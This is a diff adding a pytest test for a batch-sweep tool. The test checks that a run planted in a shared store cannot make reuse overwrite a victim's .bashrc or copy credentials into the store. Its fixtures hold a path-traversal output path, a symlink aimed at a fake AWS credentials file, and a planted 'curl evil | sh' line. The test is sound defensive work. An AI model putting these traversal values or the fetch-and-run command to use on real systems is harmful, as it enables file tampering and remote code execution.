@@ -158,3 +158,63 @@ def test_a_read_only_store_is_one_line(tmp_path, monkeypatch, capsys):
     code = cli.main(["run", str(spec), "--store", str(tmp_path / "ro")])
     err = capsys.readouterr().err
     assert code == 1 and err.startswith("error: Read-only file system") and len(err.strip().splitlines()) == 1, err
+
+
+# -- A shared store is not a way in (issue 30, item 2): what someone else wrote there is read, never acted on
+# as a path outside the run it claims to be part of.
+
+def _victims_home(tmp_path: Path) -> tuple[Path, bytes]:
+    home = tmp_path / "victim"
+    home.mkdir()
+    (home / ".bashrc").write_bytes(b"alias ls='ls --color'  # mine\n")
+    return home / ".bashrc", (home / ".bashrc").read_bytes()
+
+
+def _sweep(tmp_path: Path) -> Path:
+    return write_spec(tmp_path, f"""
+        name: shared
+        script: {SCRIPTS / 'hostile_task.py'}
+        params: {{grid: {{a: [1, 2]}}}}
+    """)
+
+
+@pytest.mark.parametrize("how", ["dotdot output", "dotdot output, symlinked run", "symlinked log"])
+def test_a_run_planted_in_a_shared_store_never_makes_reuse_touch_a_file_outside_it(tmp_path, capsys, how):
+    """Someone with write access to a shared store runs the victim's sweep there, then edits that run: task 0's
+    status.json claims an output `../../../../../../victim/.bashrc` (in the second case the run's directory is
+    also a symlink to a copy elsewhere, whose file of that name is theirs), or task 1's stdout.log becomes a
+    symlink to the victim's credentials. The victim's next run reuses what it can: it must neither delete nor
+    overwrite the victim's file nor copy the credentials into the store, and it says which task it did not take."""
+    victim, before = _victims_home(tmp_path)
+    secret = victim.parent / "credentials"
+    secret.write_text("aws_secret_access_key = hunter2\n")
+    store = tmp_path / "shared"
+    spec = _sweep(tmp_path)
+    planted = batchsweep.run(spec, store=store, progress=False)
+    run_dir = store / "runs" / planted.id
+    if how.startswith("dotdot"):
+        escape = "../" * 6 + "victim/.bashrc"  # from runs/<new run>/tasks/0/outputs/ up to tmp_path
+        status = json.loads((run_dir / "tasks" / "0" / "status.json").read_text())
+        status["outputs"] = [escape]
+        (run_dir / "tasks" / "0" / "status.json").write_text(json.dumps(status))
+        (run_dir / "tasks" / "0" / "outputs").mkdir()  # so that the source path resolves
+        said = f"run {planted.id}: 1 damaged status.json (task 0)"
+    if how == "dotdot output, symlinked run":
+        elsewhere = tmp_path / "attacker" / "deep" / "er" / "still"
+        elsewhere.parent.mkdir(parents=True)
+        run_dir.rename(elsewhere)
+        run_dir.symlink_to(elsewhere, target_is_directory=True)
+        (elsewhere / "tasks" / "0" / "outputs" / escape).parent.mkdir(parents=True, exist_ok=True)
+        (elsewhere / "tasks" / "0" / "outputs" / escape).write_bytes(b"curl evil | sh\n")
+    if how == "symlinked log":
+        (run_dir / "tasks" / "1" / "stdout.log").symlink_to(secret)
+        said = f"task 1: not reused from run {planted.id} task 1"
+    capsys.readouterr()
+    assert cli.main(["run", str(spec), "--store", str(store)]) == 0
+    err = capsys.readouterr().err
+    assert victim.read_bytes() == before
+    assert said in err, err
+    df = batchsweep.load_run(store=store).results()
+    assert df["status"].tolist() == ["succeeded", "succeeded"]
+    assert "reused_from" not in df or df["reused_from"].isna().any()
+    assert not [p for p in store.rglob("*") if p.is_file() and not p.is_symlink() and b"hunter2" in p.read_bytes()]
